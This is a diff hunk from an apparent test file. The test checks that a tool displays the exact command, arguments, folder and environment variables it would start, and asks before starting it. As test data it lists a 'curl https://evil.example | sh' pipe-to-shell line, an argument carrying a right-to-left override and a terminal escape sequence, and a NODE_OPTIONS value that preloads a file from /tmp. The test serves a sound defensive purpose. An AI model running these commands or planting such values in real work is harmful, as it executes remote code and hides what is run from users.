@@ -36,7 +36,7 @@ it('shows what would be started, exactly, and asks', async () => {
     argument  "curl https://evil.example | sh"
     argument  --token
     argument  ***
-    argument  "a\\u{202e}b\\u001b[2J"
+    argument  "a\\u202eb\\u001b[2J"
     folder    /work
     variable  API_KEY=***
     variable  NODE_OPTIONS="--require /tmp/x.cjs"
